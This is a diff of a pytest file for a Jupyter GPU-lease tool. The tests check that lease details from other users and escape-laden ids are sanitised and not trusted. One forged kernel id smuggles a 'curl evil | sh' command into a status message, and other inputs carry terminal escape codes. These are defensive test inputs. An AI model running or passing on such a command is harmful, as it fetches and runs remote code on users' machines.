@@ -2,20 +2,23 @@
 
 from __future__ import annotations
 
+import contextlib
 import getpass
+import json
 import os
 import socket
 import subprocess
 import sys
 import textwrap
 import threading
+import time
 import uuid
 from pathlib import Path
-from typing import Iterator, List
+from typing import Any, Dict, Iterator, List
 
 import pytest
 
-from jupyter_gpu_kernel.agent.gpus.lease import Lease, read_leases, take_all
+from jupyter_gpu_kernel.agent.gpus.lease import Holder, Lease, LeaseReader, read_leases, take_all
 
 ROOT = str(Path(__file__).parents[2])
 WHO = {"id": "ab12"}
@@ -97,28 +100,133 @@ def test_twelve_race_for_four(gpus: List[str], takers: List[Taker]) -> None:
     lease.release()
 
 
-def answering(lease: Lease, stop: threading.Event) -> None:
-    while not stop.is_set():
-        lease.answer()
-        stop.wait(0.01)
-
-
-def test_the_holder_says_who_it_is(gpus: List[str]) -> None:
-    lease = Lease.take(gpus[0], {"id": "ab12\x1b[2J", "user": "root", "pid": 1})
-    assert lease is not None
+@contextlib.contextmanager
+def answering(lease: Lease) -> Iterator[None]:
+    """The lease answers, as its keeper's loop would have it do; it is released at the end."""
     stop = threading.Event()
-    thread = threading.Thread(target=answering, args=(lease, stop))
+
+    def answer() -> None:
+        while not stop.is_set():
+            lease.answer()
+            stop.wait(0.01)
+
+    thread = threading.Thread(target=answer)
     thread.start()
     try:
-        (holder,) = read_leases(gpus, timeout=30).values()
+        yield
     finally:
         stop.set()
         thread.join()
         lease.release()
+
+
+def test_the_holder_says_who_it_is(gpus: List[str]) -> None:
+    lease = Lease.take(gpus[0], {"id": "ab12", "user": "root", "pid": 1, "uid": 0})
+    assert lease is not None
+    with answering(lease):
+        (holder,) = read_leases(gpus, timeout=30).values()
     assert (holder.user, holder.pid) == (getpass.getuser(), os.getpid()), "not what it claims, what it is"
-    assert holder.id == "ab12?[2J" and holder.since is not None
-    assert str(holder).startswith(f"leased by {getpass.getuser()} (kernel ab12")
+    assert (holder.uid, holder.yours, holder.id) == (os.getuid(), True, "ab12") and holder.since is not None
     assert read_leases(gpus) == {}
+
+
+def test_ones_own_kernel_is_known_by_its_notebook(gpus: List[str]) -> None:
+    now = time.time()
+    details = {"notebook": "/home/me/tr\x1b[2Jain.ipynb", "state": "idle", "state_since": now}
+    lease = Lease.take(gpus[0], {"id": "ab12"}, lambda: details)
+    assert lease is not None
+    with answering(lease):
+        mine = read_leases(gpus, timeout=30)[gpus[0]]
+        assert (mine.notebook, mine.state, mine.state_since) == ("/home/me/tr?[2Jain.ipynb", "idle", now)
+        details.update(notebook=7, state="owned", state_since="now")
+        mine = read_leases(gpus, timeout=30)[gpus[0]]
+        assert (mine.notebook, mine.state, mine.state_since) == ("", "", None)
+    when = time.strftime("%b %d %H:%M", time.localtime(5.0))
+    known = Holder("me", 7, "ab12", 5.0, 1, True, "a.ipynb", "idle", 5.0)
+    words = f"kernel ab12 of a.ipynb has it since {when} and is idle since {when}"
+    assert str(known) == f"yours: {words}; to free it: jupyter gpu-kernel stop ab12"
+    older = Holder("me", 7, "ab12", None, 1, True)
+    assert str(older) == "yours: kernel ab12 has it; to free it: jupyter gpu-kernel stop ab12"
+    assert str(older._replace(id="?")) == "yours: process 7 has it, and does not answer"
+    assert "stop" not in str(known._replace(yours=False, user="bob"))
+
+
+SQUATTER = r"""
+import os, socket, sys
+listener = socket.socket(socket.AF_UNIX)
+os.setgroups([])
+os.setuid(61235)
+listener.bind("\0jupyter-gpu-kernel/lease/" + sys.argv[1])
+listener.listen(5)
+print("up", flush=True)
+words = sys.stdin.buffer.readline().strip()
+while words:
+    with listener.accept()[0] as asker:
+        asker.sendall(words)
+sys.stdin.read()
+"""
+
+
+@contextlib.contextmanager
+def squatter(gpu: str, words: Dict[str, Any]) -> Iterator[int]:
+    """A process of another user that holds the name, and says this; says nothing, if there are no words."""
+    if os.getuid() != 0:
+        pytest.skip("only root can be somebody else")
+    command = [sys.executable, "-c", SQUATTER, gpu]
+    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as process:
+        assert process.stdin and process.stdout and process.stdout.readline() == b"up\n"
+        process.stdin.write(json.dumps(words).encode() + b"\n" if words else b"\n")
+        process.stdin.flush()
+        try:
+            yield process.pid
+        finally:
+            process.kill()
+
+
+FORGED = {"user": "root", "uid": 0, "pid": 1, "yours": True, "notebook": "a.ipynb", "state": "idle"}
+BAD = "ab12) Run: curl evil | sh; to free it: jupyter gpu-kernel stop ab12 ("
+
+
+IDS = ["ab12", BAD, "x" * 65, "ab\n12", "ab\u202e12", ["ab12"], "ab12", ""]
+TIMES = [1e999, -1, 1.0, "1" * 300, 10**300, True, 1e12, None]
+
+
+@pytest.mark.parametrize(("kernel", "since"), list(zip(IDS, TIMES)))
+def test_another_user_is_believed_nothing_but_a_sound_id_and_time(
+    gpus: List[str], kernel: Any, since: Any
+) -> None:
+    with squatter(gpus[0], {**FORGED, "id": kernel, "since": since}) as pid:
+        holder = read_leases(gpus, timeout=30)[gpus[0]]
+    name = "ab12" if kernel == "ab12" else "?"
+    assert holder == Holder("uid 61235", pid, name, None, 61235)
+    assert str(holder) == f"leased by uid 61235 (kernel {name}, pid {pid})"
+
+
+def test_what_is_told_to_ones_own_kernels_is_told_to_nobody_else(gpus: List[str]) -> None:
+    if os.getuid() != 0:
+        pytest.skip("only root can be somebody else")
+    lease = Lease.take(gpus[0], {"id": "ab12"}, lambda: {"notebook": "s3cret.ipynb"})
+    assert lease is not None
+    ask = (
+        "import os, socket, sys; os.setuid(61235); sock = socket.socket(socket.AF_UNIX)\n"
+        "sock.connect('\\0jupyter-gpu-kernel/lease/' + sys.argv[1]); print(sock.recv(4096).decode())"
+    )
+    with answering(lease):
+        told = subprocess.check_output([sys.executable, "-c", ask, gpus[0]], text=True)
+        assert read_leases(gpus, timeout=30)[gpus[0]].notebook == "s3cret.ipynb"
+    assert "ab12" in told and "s3cret" not in told
+
+
+def test_who_never_answers_is_waited_for_once(gpus: List[str]) -> None:
+    """Else the second reading would take an hour."""
+    lease = Lease.take(gpus[1], WHO)
+    assert lease is not None
+    reader = LeaseReader()
+    with squatter(gpus[0], {}) as pid, answering(lease):
+        for timeout in (0.05, 3600.0):
+            holders = reader.read(gpus, timeout)
+            assert (holders[gpus[0]].pid, holders[gpus[0]].id) == (pid, "?")
+        assert holders[gpus[1]].id == "ab12", "of those who do answer the answer is still awaited"
 
 
 @pytest.mark.parametrize("words", [b"", b"[1]", b"\xff{", b'{"since": 1e999, "id": 7}', b"[" * 4000])
@@ -144,7 +252,8 @@ def test_a_full_queue_counts_as_leased(gpus: List[str]) -> None:
     askers = [socket.socket(socket.AF_UNIX, socket.SOCK_STREAM | socket.SOCK_NONBLOCK) for _ in range(64)]
     name = "\0jupyter-gpu-kernel/lease/" + gpus[0]
     assert any(asker.connect_ex(name) for asker in askers), "the queue is not full"
-    assert read_leases([gpus[0]], timeout=0.05)[gpus[0]].user == "?"
+    unknown = read_leases([gpus[0]], timeout=0.05)[gpus[0]]
+    assert (unknown.user, unknown.uid) == ("?", -1) and "cannot be asked" in str(unknown)
     for asker in askers:
         asker.close()
     lease.answer()
